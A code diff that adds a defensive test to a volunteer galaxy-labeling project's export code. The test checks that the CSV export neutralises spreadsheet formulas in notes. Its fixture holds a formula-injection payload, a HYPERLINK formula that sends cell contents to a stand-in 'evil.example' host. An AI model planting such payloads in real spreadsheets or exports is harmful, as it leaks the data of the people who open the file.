@@ -38,3 +38,24 @@ def test_staff_report_pages_fall_back_to_seed_zero(staff_client, path: str, seed
     """The HTML report and its plot treat anything but ASCII digits as no seed (as they did for "abc")."""
     response = staff_client.get(f"{settings.WEBROOT}{path}", {"seed": seed})
     assert response.status_code == 200, response.content[:300]
+
+
+def test_consensus_csv_export_neutralises_formula_notes() -> None:
+    """A volunteer's note ``=HYPERLINK(...)`` reaches a spreadsheet as text (leading quote), not a formula;
+    the JSON export keeps the note as written."""
+    import csv
+    import io
+    import json
+
+    from labeling import services
+    from labeling.models import ConsensusStatus
+    from labeling.tests.factories import ConsensusFactory, MeasurementFactory
+
+    consensus = ConsensusFactory(n_votes=1, retired=True, inc=60.0, inc_e=2.0, status=ConsensusStatus.ACCEPTED)
+    note = '=HYPERLINK("http://evil.example/?leak="&A1,"more")'
+    MeasurementFactory(galaxy=consensus.galaxy, note=note)
+    data, n = services.consensus_export(fmt="csv")
+    (row,) = list(csv.DictReader(io.StringIO(data.decode())))
+    assert n == 1 and row["inc_note"] == "'" + note
+    (plain,) = json.loads(services.consensus_export(fmt="json")[0])
+    assert plain["inc_note"] == note
